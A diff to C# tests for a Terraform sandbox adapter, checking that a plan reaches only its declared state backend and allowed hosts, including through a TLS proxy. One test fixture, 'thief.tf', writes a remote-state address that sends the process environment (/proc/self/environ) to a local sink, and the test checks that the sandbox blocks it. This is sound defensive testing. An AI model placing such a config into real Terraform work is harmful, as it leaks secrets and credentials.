@@ -1,8 +1,14 @@
+using System.Net;
 using Groundwright.Adapters.Sandbox;
+using Groundwright.Adapters.Sandbox.Egress;
 using Groundwright.Adapters.Terraform;
 using Groundwright.Adapters.Tests.Sandbox;
+using Groundwright.Adapters.Tests.Sandbox.Egress;
+using Groundwright.Core.Configuration;
 using Groundwright.Core.Environments;
 using Groundwright.Core.Problems;
+using Groundwright.Core.Processes;
+using Groundwright.Core.Sandboxes;
 using Groundwright.Testing;
 
 namespace Groundwright.Adapters.Tests.Terraform;
@@ -120,6 +126,64 @@ public sealed class TerraformRoomTests : IDisposable
         RootReach.NeedsNetwork(root).ShouldBe(needed);
         RootReach.NeedsNetwork(root with { Backend = new StateBackend("s3", "s3", [], null) }).ShouldBeTrue();
     }
+
+    [Fact]
+    [Covers("U4")]
+    public async Task A_root_reaches_its_state_and_nobody_else()
+    {
+        using var server = new StateServer();
+        bench.With("infra/app/backend.tf", "terraform {\n  backend \"http\" {}\n}\n");
+        var settings = WithState(server.Address, new Uri(server.Address).Authority);
+        (await bench.Ship(bench.Target(settings, runner))).ExitCode.ShouldBe(0);
+        bench.With("infra/app/thief.tf", $"data \"terraform_remote_state\" \"x\" {{\n  backend = \"http\"\n  config = {{ address = \"http://127.0.0.1:{sink.Port}/?${{urlencode(file(\"/proc/self/environ\"))}}\" }}\n}}\n");
+
+        await Should.ThrowAsync<GroundwrightException>(() => bench.Target(settings, runner).Plan(bench.Scope(), CancellationToken.None));
+
+        sink.Visits.ShouldBeEmpty();
+        Rooms.ShouldAllBe(command => !command.Arguments.Contains("--share-net"));
+    }
+
+    [Fact]
+    [Covers("U4")]
+    public async Task A_state_behind_tls_at_a_name_is_reached_through_the_proxy()
+    {
+        using var server = new StateServer();
+        using var front = new TlsFront("state.example.test", new Uri(server.Address).Port);
+        using var company = new TunnelProxy(front.Port);
+        using var outside = new RoomBench(new Dial(new WebProxy(company.Address), Dns.GetHostAddressesAsync));
+        bench.Ours["SSL_CERT_FILE"] = front.Certificate;
+        bench.With("infra/app/backend.tf", "terraform {\n  backend \"http\" {}\n}\n");
+        var settings = WithState("https://state.example.test/state", "*.example.test") with { Environment = ["SSL_CERT_FILE"] };
+        var target = bench.Target(settings, new ConfiningRunner(bench.Runner, outside.Sandbox));
+
+        var plan = await target.Plan(bench.Scope(), CancellationToken.None);
+
+        plan.Adds.ShouldBe(1);
+        company.Heads.ShouldAllBe(head => head.StartsWith("CONNECT state.example.test:443 "));
+        company.Heads.ShouldNotBeEmpty();
+        Rooms.ShouldAllBe(command => !command.Arguments.Contains("--share-net"));
+    }
+
+    [Fact]
+    public async Task A_host_that_is_not_named_is_told_by_its_name()
+    {
+        bench.With("infra/app/backend.tf", "terraform {\n  backend \"http\" {}\n}\n");
+        var target = bench.Target(WithState("https://state.example.test/state", "*.amazonaws.com"), runner);
+
+        var fault = await Should.ThrowAsync<GroundwrightException>(() => target.Plan(bench.Scope(), CancellationToken.None));
+
+        string.Join('\n', fault.Problems.Select(problem => $"{problem.Summary}\n{problem.Detail}")).ShouldContain("state.example.test:443 is not under `reaches:` of this target");
+    }
+
+    private IEnumerable<Command> Rooms => bench.Runner.Commands.Where(command => command.IsDoor);
+
+    private static TargetSettings WithState(string address, params string[] reaches) => new()
+    {
+        Name = "app",
+        Terraform = "infra/app",
+        Backend = new Dictionary<string, string> { ["address"] = address, ["retry_max"] = "0" },
+        Reaches = [.. reaches.Select(ReachableHost.Parse)],
+    };
 
     /// <summary>Everything that a person or an agent would be shown: of a plan, or of why there is none.</summary>
     private static async Task<string> Said(Func<Task<TargetPlan>> plan)
